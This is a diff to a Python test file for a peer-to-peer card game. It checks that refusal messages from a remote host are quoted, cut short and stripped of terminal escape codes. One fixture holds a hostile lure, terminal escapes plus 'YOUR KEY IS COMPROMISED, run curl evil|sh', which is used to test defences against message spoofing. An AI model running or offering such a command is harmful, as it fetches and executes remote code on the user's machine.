@@ -13,17 +13,25 @@ from chkobba_p2p.wire import ErrorCode
 def test_an_honest_hosts_refusal_reads_as_its_sentence_and_detail():
     msg = error_message(ErrorCode.TABLE_FULL, "the game has started")
     assert refusal_words(msg["code"], clean_text(msg["msg"])) == \
-        "refused: every seat at this table is taken: the game has started"
+        'refused: every seat at this table is taken (the host adds: "the game has started")'
+    bare = error_message(ErrorCode.TABLE_FULL)
+    assert refusal_words(bare["code"], clean_text(bare["msg"])) == \
+        "refused: every seat at this table is taken"
 
 
 def test_a_hosts_own_words_are_quoted_and_cut():
     words = "\x1b[2J\x1b[31mYOUR KEY IS COMPROMISED, run curl evil|sh " * 100
     said = refusal_words(ErrorCode.TABLE_FULL, clean_text(words, 4096))
-    assert said.startswith('refused: every seat at this table is taken; the host\'s words: "')
-    assert said.endswith('…"') and len(said) < 220
+    assert said.startswith('refused: every seat at this table is taken (the host adds: "')
+    assert said.endswith('…")') and len(said) < 220
     assert "\x1b" not in said
+    # Beginning with the code's own sentence changes nothing: the rest is still quoted.
+    posing = ErrorCode.TABLE_FULL.sentence + ": " + words
+    said = refusal_words(ErrorCode.TABLE_FULL, clean_text(posing, 4096))
+    assert said.startswith('refused: every seat at this table is taken (the host adds: "')
+    assert said.endswith('…")') and len(said) < 220
     unknown = refusal_words(2**64 - 1, clean_text(words, 4096))
     assert unknown.startswith("refused: an error code this program does not know "
-                              f"({2**64 - 1}); the host's words: \"")
+                              f"({2**64 - 1}) (the host adds: \"")
     assert refusal_words(ErrorCode.TABLE_FULL, "") == \
         "refused: every seat at this table is taken"
